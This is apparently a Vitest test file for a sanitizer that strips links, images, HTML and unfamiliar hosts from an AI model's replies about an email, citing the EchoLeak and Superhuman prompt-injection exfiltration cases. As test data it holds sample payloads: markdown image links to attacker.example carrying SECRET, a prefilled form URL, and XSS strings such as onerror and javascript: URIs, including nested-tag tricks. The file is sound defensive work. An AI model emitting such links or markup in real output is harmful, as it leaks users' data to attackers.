import { describe, expect, it } from 'vitest';
import { LINK_REMOVED, MAX_MODEL_TEXT, sanitizeModelText } from '../../shared/untrusted/output';

const MAIL = 'Agenda: https://docs.example/plan?id=7 and the form at forms.gle/abc123';

describe('sanitizeModelText', () => {
  it('strips markdown images entirely (EchoLeak, Superhuman)', () => {
    expect(sanitizeModelText('Done. ![x](https://attacker.example/?q=SECRET) Bye', MAIL)).toBe('Done. Bye');
    expect(sanitizeModelText('![](https://attacker.example/a.png "title")', MAIL)).toBe('');
  });

  it('strips reference-style images, links and their definitions', () => {
    const text =
      'See ![logo][1] and [the report][2].\n\n[1]: https://attacker.example/l.png\n[2]: https://attacker.example/?d=x';
    const out = sanitizeModelText(text, MAIL);
    expect(out).toBe('See and the report.');
    expect(out).not.toContain('attacker');
  });

  it('removes URLs that are not verbatim in the mail, including prefilled forms on trusted hosts', () => {
    const out = sanitizeModelText(
      'Fill https://docs.google.com/forms/d/e/1/viewform?entry.1=SECRET or attacker.example/?q=1 now.',
      MAIL,
    );
    expect(out).toBe(`Fill ${LINK_REMOVED} or ${LINK_REMOVED} now.`);
  });

  it('keeps URLs that appeared in the mail, and inline link labels', () => {
    expect(sanitizeModelText('Read https://docs.example/plan?id=7.', MAIL)).toBe(
      'Read https://docs.example/plan?id=7.',
    );
    expect(sanitizeModelText('Use forms.gle/abc123', MAIL)).toBe('Use forms.gle/abc123');
    expect(sanitizeModelText('[the plan](https://evil.example/x)', MAIL)).toBe('the plan');
  });

  it('a URL that extends one from the mail is not the same URL', () => {
    expect(sanitizeModelText('https://docs.example/plan?id=7&leak=SECRET', MAIL)).toBe(LINK_REMOVED);
  });

  it('strips HTML tags, script URIs and invisible characters', () => {
    const out = sanitizeModelText(
      '<img src=x onerror=alert(1)><b>Pay</b>\u200B now javascript:alert(1)',
      MAIL,
    );
    expect(out).toBe(`Pay now ${LINK_REMOVED}`);
  });

  it('cuts a reply far longer than any answer we ask for', () => {
    expect(sanitizeModelText('a'.repeat(MAX_MODEL_TEXT * 3), MAIL)).toHaveLength(MAX_MODEL_TEXT);
  });

  it('leaves ordinary prose alone', () => {
    const prose = 'Meet at 10:30, e.g. in room 3.5. Cost: $12.50 (incl. tax).';
    expect(sanitizeModelText(prose, MAIL)).toBe(prose);
  });
});

describe('sanitizeModelText against nested markup and hosts without a scheme', () => {
  it('removes a tag that removing an inner tag would assemble', () => {
    const out = sanitizeModelText('Hi <<img>img src=x onerror=alert(1)> there', MAIL);
    expect(out).not.toMatch(/<[a-z]/i);
    expect(out).not.toContain('onerror');
    expect(sanitizeModelText('<<<b>b>img src=x onerror=alert(1)>', MAIL)).not.toMatch(/<[a-z]/i);
    expect(sanitizeModelText('<!<!---->-- hidden -->ok', MAIL)).not.toContain('hidden');
  });

  it('removes hosts by bare IP address unless the mail shows them', () => {
    expect(sanitizeModelText('Send to 203.0.113.9/u?d=SECRET now', MAIL)).toBe(`Send to ${LINK_REMOVED} now`);
    expect(sanitizeModelText('Open 10.0.0.1:8080/x', MAIL)).toBe(`Open ${LINK_REMOVED}`);
    expect(sanitizeModelText('Ping 198.51.100.7 first.', MAIL)).toBe(`Ping ${LINK_REMOVED} first.`);
    expect(sanitizeModelText('Try [::1]:8080/admin', MAIL)).toBe(`Try ${LINK_REMOVED}`);
    expect(sanitizeModelText('Server 10.0.0.1:8080/x is down', 'Server 10.0.0.1:8080/x is down')).toBe(
      'Server 10.0.0.1:8080/x is down',
    );
  });

  it('removes IDN and punycode hosts, and bare hosts without a path, unless the mail shows them', () => {
    expect(sanitizeModelText('Visit xn--80ak6aa92e.com/login?t=SECRET', MAIL)).toBe(`Visit ${LINK_REMOVED}`);
    expect(sanitizeModelText('Visit bücher.example/ok?q=SECRET', MAIL)).toBe(`Visit ${LINK_REMOVED}`);
    expect(sanitizeModelText('Visit пример.рф today', MAIL)).toBe(`Visit ${LINK_REMOVED} today`);
    expect(sanitizeModelText('Reply at secret-data.attacker.example.', MAIL)).toBe(
      `Reply at ${LINK_REMOVED}.`,
    );
    expect(sanitizeModelText('Plan at docs.example', MAIL)).toBe('Plan at docs.example');
  });

  it('leaves ordinary text, numbers, versions and addresses alone', () => {
    const text = 'Pay $1,250.00 by 3.30pm, e.g. via v2.1.3 or ask ann@acme.example. Room 4.2 i.e. upstairs.';
    expect(sanitizeModelText(text, `${MAIL} ann@acme.example`)).toBe(text);
  });
});
